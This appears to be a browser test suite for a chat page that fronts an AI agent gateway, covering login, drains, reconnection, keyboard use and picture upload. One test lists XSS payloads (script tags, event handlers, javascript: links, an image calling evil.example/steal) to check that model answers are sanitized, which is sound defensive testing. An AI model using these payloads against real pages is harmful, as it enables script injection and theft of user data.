import { eventually } from '@hermes/test-kit/eventually';
import { expect, test } from 'vitest';
import { NO_BROWSER } from './browser.ts';
import { Chatter } from './chatter.ts';
import { SharedBrowser } from './shared-browser.ts';
import { SpokenModel } from './spoken-model.ts';
import { Testbed, type TestbedOptions } from './testbed.ts';
import { freePort } from './torture/free-port.ts';

const chromium = new SharedBrowser();

if (NO_BROWSER) console.warn(`skipped: the tests of the chat page: ${NO_BROWSER}`);

const KEY = 'Zr8kQ2vX5mT1wB7nJ4pL9sD3fG6hY0cA';

/** A gateway with a model that the test speaks for, and a browser. */
async function start({ width = 1_000, ...options }: TestbedOptions & { readonly width?: number } = {}) {
  const stack = new AsyncDisposableStack();
  try {
    const model = stack.use(await SpokenModel.start());
    const testbed = stack.use(await Testbed.start({ agent: model.agent, dashboard: false, ...options }));
    const browser = stack.use(await chromium.open(width));
    const chatter = new Chatter(browser.page);
    const dispose = () => stack.disposeAsync();
    return { model, testbed, browser, page: browser.page, chatter, [Symbol.asyncDispose]: dispose };
  } catch (error) {
    await stack.disposeAsync();
    throw error;
  }
}

test.skipIf(NO_BROWSER)('a person follows a link with the key, asks, and reads the answer as it grows', async () => {
  await using world = await start({ config: `api_server: { key: ${KEY} }`, width: 360 });
  const { model, testbed, browser, page, chatter } = world;
  await chatter.follow(`${testbed.gateway.url}/#token=${KEY}`);
  await chatter.sees('link', 'Live');
  expect(page.url()).not.toContain('token');
  await chatter.say('What is **new**?');
  await model.isAsked(1);
  await chatter.sees('said', 'What is **new**?');
  await chatter.sees('fate', 'Working');
  model.say('First, ');
  await chatter.sees('answer', /^First,$/);
  model.say('a **bold** `word` with a line that is far wider than the page: ');
  model.end(`\n\n\`\`\`\n${'x'.repeat(300)}\n\`\`\`\n\n| a | b |\n| - | - |\n| ${'y'.repeat(80)} | z |`);
  await page.locator('.answer strong', { hasText: 'bold' }).waitFor();
  await page.locator('.entry[data-state="done"] .answer pre').waitFor();
  await chatter.say('/status');
  await chatter.sees('answer', /The gateway is running\./);
  await chatter.press('Chats');
  await chatter.sees('sessions', 'What is **new**?');
  expect(await browser.violations()).toEqual([]);
  await page.getByRole('link', { name: 'What is **new**?' }).click();
  await chatter.sees('answer', /The gateway is running\./);

  expect(await page.evaluate('document.documentElement.scrollWidth')).toBeLessThanOrEqual(360);
  for (const colorScheme of ['light', 'dark'] as const) {
    await page.emulateMedia({ colorScheme, reducedMotion: 'reduce' });
    expect(await browser.violations()).toEqual([]);
  }
  expect(browser.complaints).toEqual([]);
  const { origin } = new URL(testbed.gateway.url);
  expect(browser.requested.filter((url) => new URL(url).origin !== origin)).toEqual([]);
  expect(browser.requested.filter((url) => url.includes(KEY) || url.includes('token'))).toEqual([]);
  expect(await page.evaluate('JSON.stringify(localStorage)')).not.toContain(KEY);
});

test.skipIf(NO_BROWSER)('the page asks for the key, and forgets it', async () => {
  await using world = await start({ config: `api_server: { key: ${KEY} }` });
  const { testbed, page, chatter } = world;
  await chatter.follow(testbed.gateway.url);
  await chatter.logIn('wrong');
  await chatter.sees('alert', 'The key was not accepted.');
  await chatter.logIn(KEY);
  await chatter.sees('link', 'Live');
  await chatter.press('Log out');
  await page.getByLabel('API key').waitFor();
  expect(await page.evaluate('sessionStorage.length')).toBe(0);
});

test.skipIf(NO_BROWSER)(
  'a drain refuses a message in words, and the page comes back when it is cancelled',
  async () => {
    await using world = await start({ dashboard: true });
    const { model, testbed, chatter } = world;
    await chatter.follow(testbed.gateway.url);
    await chatter.say('before');
    await model.isAsked(1);
    await testbed.client.beginDrain({ reason: 'new <b>image</b>' });
    await chatter.sees(
      'banner',
      /^Draining since .* by dashboard: new <b>image<\/b>\. New messages are refused\. It ends at /,
    );
    model.end('finished');
    await chatter.sees('answer', 'finished');
    await chatter.say('during');
    await chatter.sees('outcome', /^Not sent\. The gateway is draining and did not keep the message\./);
    await testbed.client.cancelDrain();
    await chatter.sees('told', 'I am back and accept messages again.');
    await chatter.seesNo('banner');
    await chatter.press('Send again');
    await model.isAsked(2);
    model.end('after all');
    await chatter.sees('answer', 'after all');
    expect(model.asked).toEqual(['before', 'during']);
  },
);

test.skipIf(NO_BROWSER)('a message under a drain that keeps messages is answered afterwards', async () => {
  await using world = await start({ dashboard: true, config: 'on_drain: queue' });
  const { model, testbed, chatter } = world;
  await chatter.follow(testbed.gateway.url);
  await testbed.client.beginDrain({});
  await chatter.sees('banner', /^Draining since .* New messages are kept and answered afterwards\./);
  await chatter.say('keep me');
  await chatter.sees('fate', 'Kept, answered after the drain');
  await testbed.client.cancelDrain();
  await model.isAsked(1);
  model.end('kept');
  await chatter.sees('answer', 'kept');
  expect(model.asked).toEqual(['keep me']);
});

test.skipIf(NO_BROWSER)('a gateway that is killed and comes back loses and repeats nothing', async () => {
  await using world = await start({ port: await freePort() });
  const { model, testbed, page, chatter } = world;
  await chatter.follow(testbed.gateway.url);
  await chatter.say('one');
  await model.isAsked(1);
  model.say('half of');
  await chatter.sees('answer', 'half of');
  await testbed.gateway.program.kill('SIGKILL');
  await chatter.sees('banner', /The connection to the gateway is lost/);
  await chatter.say('two');
  await chatter.sees('fate', /The gateway cannot be reached\. Trying again/);
  await testbed.startGateway();
  // The turn that was cut off runs again, and the message that waited is sent.
  await model.isAsked(2);
  await chatter.sees('fate', 'In the queue, 1 message before it');
  model.end('the whole answer');
  await model.isAsked(3);
  model.end('and another');
  await chatter.sees('answer', 'and another');
  await chatter.seesNo('banner');
  expect(model.asked).toEqual(['one', 'one', 'two']);
  expect([await chatter.all('said'), await chatter.all('answer')]).toEqual([
    ['one', 'two'],
    ['the whole answer', 'and another'],
  ]);

  await page.reload();
  await chatter.sees('answer', 'and another');
  expect([await chatter.all('said'), await chatter.all('answer')]).toEqual([
    ['one', 'two'],
    ['the whole answer', 'and another'],
  ]);
});

test.skipIf(NO_BROWSER)('a confirmation that is lost on the way makes no second turn', async () => {
  await using world = await start();
  const { model, testbed, page, chatter } = world;
  let lost = 0;
  await page.route('**/v1/messages', async (route) => {
    if (lost > 0) return route.continue();
    lost += 1;
    await route.fetch();
    await route.abort('connectionreset');
  });
  await chatter.follow(testbed.gateway.url);
  await chatter.say('once');
  await model.isAsked(1);
  model.end('only once');
  await chatter.sees('answer', 'only once');
  await chatter.sees('fate', /^\d\d:\d\d/);
  expect([lost, model.asked, await chatter.all('said')]).toEqual([1, ['once'], ['once']]);
});

test.skipIf(NO_BROWSER)('everything can be done with the keyboard alone', async () => {
  await using world = await start();
  const { model, testbed, page, chatter } = world;
  await chatter.follow(testbed.gateway.url);
  await page.locator('#message:focus').waitFor();
  await page.keyboard.type('first line');
  await page.keyboard.press('Shift+Enter');
  await page.keyboard.type('second line');
  await page.keyboard.press('Enter');
  await model.isAsked(1);
  expect(model.asked).toEqual(['first line\nsecond line']);
  await page.keyboard.type('next');
  await page.keyboard.press('Enter');
  await chatter.sees('fate', 'In the queue, 1 message before it');
  await chatter.tabTo('Stop');
  await page.keyboard.press('Enter');
  await page
    .locator('.entry >> nth=0')
    .locator('.outcome', { hasText: 'This turn was interrupted on request.' })
    .waitFor();
  await model.isAsked(2);
  model.end('second answer');
  await chatter.sees('answer', 'second answer');

  await chatter.tabTo('New chat');
  await page.keyboard.press('Enter');
  await chatter.sees('title', 'New chat');
  await chatter.seesNo('said');
  await chatter.tabTo('first line second line');
  await page.keyboard.press('Enter');
  await chatter.sees('answer', 'second answer');
  await page.goBack();
  await chatter.sees('title', 'New chat');
  await chatter.tabTo('Skip to the message');
  await page.keyboard.press('Enter');
  await page.locator('#message:focus').waitFor();
  await page.keyboard.type('/st');
  await page.getByRole('button', { name: /^\/status/ }).waitFor();
  await page.keyboard.type('op');
  await page.keyboard.press('Enter');
  await chatter.sees('answer', 'No task is running in this session.');
});

const ATTACKS = [
  '<script>globalThis.owned = 1</script>',
  '<img src=x onerror="globalThis.owned = 1">',
  '<svg onload="globalThis.owned = 1"></svg><iframe srcdoc="<script>parent.owned = 1</script>"></iframe>',
  '[click](javascript:globalThis.owned=1) [data](data:text/html,<script>globalThis.owned=1</script>)',
  '![picture](https://evil.example/steal?what=said) ![own](/v1/status) <https://evil.example/plain>',
  '[reference][r]\n\n[r]: https://evil.example/reference "title\\" onclick=\\"globalThis.owned=1"',
  '<form action=https://evil.example><button>Send again</button></form><base href=https://evil.example>',
];

test.skipIf(NO_BROWSER)('an answer runs no code, loads nothing and cannot break the page', async () => {
  await using world = await start();
  const { model, testbed, browser, page, chatter } = world;
  await chatter.follow(testbed.gateway.url);
  await chatter.say(`${ATTACKS[1]}`);
  await model.isAsked(1);
  model.end(`${ATTACKS.join('\n\n')}\n\nend of it`);
  await chatter.sees('answer', /end of it/);
  expect(await chatter.all('said')).toEqual([ATTACKS[1]]);
  expect(await page.locator('.answer').locator('script, img, svg, iframe, form, base, button').count()).toBe(0);
  const links = page.locator('.answer a');
  const addresses = await links.evaluateAll((all) => all.map((link) => link.getAttribute('href')));
  expect(addresses).toEqual([
    'https://evil.example/steal?what=said',
    'https://evil.example/plain',
    'https://evil.example/reference',
  ]);
  for (const link of await links.all()) expect(await link.getAttribute('rel')).toBe('noopener noreferrer');
  await links.first().hover();

  await chatter.say('and deeper');
  await model.isAsked(2);
  model.end(`${'> '.repeat(20_000)}deep`);
  await chatter.sees('answer', /deep$/);
  await chatter.say('and longer');
  await model.isAsked(3);
  model.end(`${'a*'.repeat(40_000)}long`);
  await chatter.sees('answer', /long$/);

  const { origin } = new URL(testbed.gateway.url);
  expect(browser.requested.filter((url) => new URL(url).origin !== origin)).toEqual([]);
  expect(await page.evaluate('globalThis.owned')).toBeUndefined();
  expect(browser.complaints).toEqual([]);
});

test.skipIf(NO_BROWSER)('a picture is sent with the message, and a gateway that takes none is quoted', async () => {
  await using world = await start();
  const { testbed, page, chatter } = world;
  const bodies: unknown[] = [];
  await page.route('**/v1/messages', async (route) => {
    bodies.push(route.request().postDataJSON());
    const json = { status: 400, code: 'invalid-request', detail: 'This agent sees no pictures.' };
    await route.fulfill({ status: 400, contentType: 'application/problem+json', json });
  });
  await chatter.follow(testbed.gateway.url);
  const dot = Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
    'base64',
  );
  const field = page.locator('#pictures');
  await field.setInputFiles({ name: 'note.txt', mimeType: 'text/plain', buffer: Buffer.from('no') });
  await chatter.sees('alert', 'note.txt is not a picture in PNG, JPEG, GIF or WebP.');
  await field.setInputFiles({ name: 'dot.png', mimeType: 'image/png', buffer: dot });
  await page.getByRole('img', { name: 'dot.png' }).waitFor();
  await chatter.say('What is this?');
  await chatter.sees('outcome', /^Not sent\. The gateway did not take the picture\. This agent sees no pictures\./);
  const url = `data:image/png;base64,${dot.toString('base64')}`;
  expect(bodies).toEqual([
    {
      session: expect.stringMatching(/^chat-/),
      message_id: expect.any(String),
      content: [
        { type: 'text', text: 'What is this?' },
        { type: 'image_url', image_url: { url } },
      ],
    },
  ]);
  await chatter.press('Edit');
  await page.getByRole('button', { name: 'Remove dot.png' }).click();
  await chatter.seesNo('said');
  expect(await page.getByLabel('Message', { exact: true }).inputValue()).toBe('What is this?');
});

test.skipIf(NO_BROWSER)('two pages of a session show the same, and a page goes on where it was cut off', async () => {
  await using world = await start();
  const { model, testbed, page, chatter } = world;
  await chatter.follow(testbed.gateway.url);
  await chatter.say('from the page');
  await model.isAsked(1);
  model.end('for the page');
  await chatter.sees('answer', 'for the page');
  const session = new URLSearchParams(new URL(page.url()).hash.slice(1)).get('session') ?? '';
  await page.context().setOffline(true);
  await chatter.sees('banner', /The connection to the gateway is lost/);
  const answer = testbed.client.say(session, 'from elsewhere');
  await model.isAsked(2);
  model.end('for both');
  expect((await answer).status).toBe(200);
  await page.context().setOffline(false);
  await chatter.sees('answer', 'for both');
  await chatter.seesNo('banner');
  await eventually(async () => expect(await chatter.all('said')).toEqual(['from the page', 'from elsewhere']));
});
